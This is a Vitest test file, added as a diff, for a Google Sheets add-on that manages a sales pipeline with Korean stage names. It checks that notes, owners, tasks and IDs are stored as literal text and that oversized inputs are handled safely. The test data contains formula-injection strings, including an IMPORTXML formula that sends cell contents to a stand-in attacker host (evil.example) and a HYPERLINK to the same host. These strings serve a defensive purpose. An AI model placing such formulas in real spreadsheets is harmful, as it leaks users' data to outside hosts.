@@ -1,0 +1,204 @@
+/**
+ * Text the add-on writes is stored as exactly that text. Sheets reads a
+ * written string as if a person typed it (`=…` a formula, `00123` the number
+ * 123, `2023-11` a date); the stand-in converts typed text the same way, so
+ * what reads back here is what a team would see in their sheet.
+ */
+import { describe, expect, it } from 'vitest';
+import { cellOf, column, rowOf, samplePipeline } from '../moves/fixture';
+import type { StandIn } from '../support/standin';
+
+interface Result {
+  ok: boolean;
+  reason?: string;
+  message: string;
+  missing: string[];
+  state: { deal: { stage: string } | null; checklist: { criterion: string; done: boolean }[] } | null;
+}
+
+type Call = (fn: string, ...a: unknown[]) => unknown;
+
+const DEAL = 'D-2023-034'; // 미팅 약속 완료, owner sua.choi@example.com, no tasks yet.
+
+/** Texts Sheets would turn into a formula, a number, a date or a boolean if written as typed. */
+const TRICKY = [
+  '=IMPORTXML("https://evil.example/x","//a")',
+  '+82 10 1234 5678',
+  '-',
+  '- 예산 동결',
+  '@kim 확인 부탁',
+  '00123',
+  '1-2',
+  '2023-11',
+  '2023. 11. 5',
+  'TRUE',
+  '1,000',
+  '70%',
+  "'quoted",
+];
+
+function lose(call: Call, dealId: string, stage: string, note: string): Result {
+  return call('panelMoveDeal', {
+    dealId,
+    expectedStage: stage,
+    toStage: '실주',
+    override: false,
+    note,
+  }) as Result;
+}
+
+function lastHistory(standIn: StandIn): Record<string, unknown> {
+  const rows = standIn.values('Stage history');
+  const header = rows[0] as string[];
+  const last = rows.at(-1) ?? [];
+  return Object.fromEntries(header.map((h, i) => [h, last[i]]));
+}
+
+describe('one write path that stores text literally', () => {
+  it('a note of any shape reads back exactly as typed, never as a formula, number or date', () => {
+    for (const note of TRICKY) {
+      const { standIn, call } = samplePipeline();
+      const result = lose(call, DEAL, '미팅 약속 완료', note);
+      expect(result.ok, note).toBe(true);
+      const row = standIn.values('Stage history').length;
+      expect(lastHistory(standIn).메모, note).toBe(note);
+      // …and no formula was stored in the row.
+      const formulas = standIn.snapshot('Stage history').formulas[row - 1] ?? [];
+      expect(
+        formulas.every((f) => f === ''),
+        note,
+      ).toBe(true);
+    }
+  });
+
+  it('a lost reason =IMPORTXML(...) typed in the panel is text in Stage history', () => {
+    const { standIn, call } = samplePipeline();
+    const reason = '=IMPORTXML("https://evil.example/steal?d="&A1,"//a")';
+    expect(lose(call, DEAL, '미팅 약속 완료', reason).ok).toBe(true);
+    expect(lastHistory(standIn)).toMatchObject({ '딜 ID': DEAL, 단계: '실주', 메모: reason });
+  });
+
+  it('an owner and an entry task that start with = land in Tasks as text', () => {
+    const { standIn, call } = samplePipeline();
+    const owner = '=HYPERLINK("https://evil.example","click")';
+    const row = rowOf(standIn, DEAL);
+    standIn.seed('Deals', `E${row}`, { values: [[owner]] });
+    const stagesRow = standIn.values('Stages').findIndex((r) => r[0] === '제품 살펴보는 중') + 1;
+    const task = '=1+1 데모 준비';
+    standIn.seed('Stages', `F${stagesRow}`, { values: [[`${task}\n사용 현황 점검 콜 (+7d)`]] });
+    const result = call('panelMoveDeal', {
+      dealId: DEAL,
+      expectedStage: '미팅 약속 완료',
+      toStage: '제품 살펴보는 중',
+      override: true,
+      note: '고객 요청으로 먼저 진행',
+    }) as Result;
+    expect(result.ok).toBe(true);
+    const tasks = standIn.values('Tasks').filter((r) => r[1] === DEAL);
+    expect(tasks.length).toBeGreaterThan(0);
+    expect(tasks.every((r) => r[4] === owner)).toBe(true);
+    expect(tasks.map((r) => r[2])).toContain(task);
+    const formulas = standIn.snapshot('Tasks').formulas.flat();
+    expect(formulas.every((f) => f === '')).toBe(true);
+  });
+});
+
+describe('ids keep their exact text', () => {
+  it('Deal ID 00123 is copied as 00123: its criteria can be ticked and the deal moves forward', () => {
+    const { standIn, call } = samplePipeline();
+    const row = rowOf(standIn, DEAL);
+    standIn.seed('Deals', `A${row}`, { values: [['00123']] });
+    // The history knows the deal by its new id from here on (the team renamed it).
+    const entered = call('panelMoveDeal', {
+      dealId: '00123',
+      expectedStage: '미팅 약속 완료',
+      toStage: '제품 살펴보는 중',
+      override: true,
+      note: 'x',
+    }) as Result;
+    expect(entered.ok).toBe(true);
+    const history = standIn.values('Stage history').filter((r) => r[1] === '00123');
+    expect(history.length).toBeGreaterThan(0);
+    const tasks = standIn.values('Tasks').filter((r) => r[1] === '00123');
+    expect(tasks.length).toBeGreaterThan(0);
+    expect(tasks.every((r) => String(r[9]).startsWith('00123|'))).toBe(true);
+    for (const criterion of ['고객이 데모 환경에서 핵심 기능 직접 사용', '도입 검토 담당자 지정']) {
+      const tick = call('panelSetChecklistItem', {
+        dealId: '00123',
+        stage: '제품 살펴보는 중',
+        criterion,
+        done: true,
+      }) as Result;
+      expect(tick.ok, criterion).toBe(true);
+    }
+    const forward = call('panelMoveDeal', {
+      dealId: '00123',
+      expectedStage: '제품 살펴보는 중',
+      toStage: '온보딩 교육 중',
+      override: false,
+      note: '',
+    }) as Result;
+    expect(forward).toMatchObject({ ok: true });
+    expect(cellOf(standIn, 'Deals', row, '딜 ID')).toBe('00123');
+  });
+
+  it('a Deal ID =A gets one stale review task however often the check runs', () => {
+    const { standIn, app } = samplePipeline();
+    const row = rowOf(standIn, 'D-2023-034'); // stale: 41 days in 미팅 약속 완료 (limit 14)
+    standIn.seed('Deals', `A${row}`, { values: [['=A']] });
+    for (let run = 0; run < 3; run++) {
+      standIn.begin('menu');
+      (app.runChecksNow as () => void)();
+    }
+    const stale = standIn.values('Tasks').filter((r) => r[1] === '=A' && r[8] === 'stale');
+    expect(stale).toHaveLength(1);
+    expect(String(stale[0]?.[9])).toBe('=A|미팅 약속 완료|2023-10-05|stale');
+  });
+});
+
+describe('limits', () => {
+  it('a 50,000-character bad cell is cut in its Health text, and every other deal is still checked', () => {
+    const { standIn, app } = samplePipeline();
+    const row = rowOf(standIn, 'D-2023-017');
+    standIn.seed('Deals', `F${row}`, { values: [['x'.repeat(50_000)]] });
+    standIn.begin('menu');
+    (app.runChecksNow as () => void)();
+    const health = column(standIn, 'Deals', '파이프라인 점검');
+    const text = String(standIn.values('Deals')[row - 1]?.[health]);
+    expect(text).toMatch(/^입력 오류: 금액/);
+    expect(text.length).toBeLessThan(1_000);
+    expect(text).toContain('(50,000');
+    // Another deal's flag is written as usual.
+    expect(standIn.values('Deals')[rowOf(standIn, 'D-2023-034') - 1]?.[health]).toMatch(
+      /^정체: 미팅 약속 완료/,
+    );
+  });
+
+  it('an entry task due in 100,000,000 days refuses the move into its stage before anything is written', () => {
+    const { standIn, call } = samplePipeline();
+    const stagesRow = standIn.values('Stages').findIndex((r) => r[0] === '제품 살펴보는 중') + 1;
+    standIn.seed('Stages', `F${stagesRow}`, { values: [['데모 계정 발급 (+100000000d)']] });
+    const before = {
+      deals: standIn.snapshot('Deals'),
+      history: standIn.snapshot('Stage history'),
+      tasks: standIn.snapshot('Tasks'),
+    };
+    const move = () =>
+      call('panelMoveDeal', {
+        dealId: DEAL,
+        expectedStage: '미팅 약속 완료',
+        toStage: '제품 살펴보는 중',
+        override: true,
+        note: '먼저 진행',
+      }) as Result;
+    const refused = move();
+    expect(refused.ok).toBe(false);
+    expect(refused.message).toContain('제품 살펴보는 중');
+    expect(standIn.snapshot('Deals')).toEqual(before.deals);
+    expect(standIn.snapshot('Stage history')).toEqual(before.history);
+    expect(standIn.snapshot('Tasks')).toEqual(before.tasks);
+    // The team fixes the line; the same move now goes through.
+    standIn.seed('Stages', `F${stagesRow}`, { values: [['데모 계정 발급 (+3d)']] });
+    expect(move().ok).toBe(true);
+  });
+});
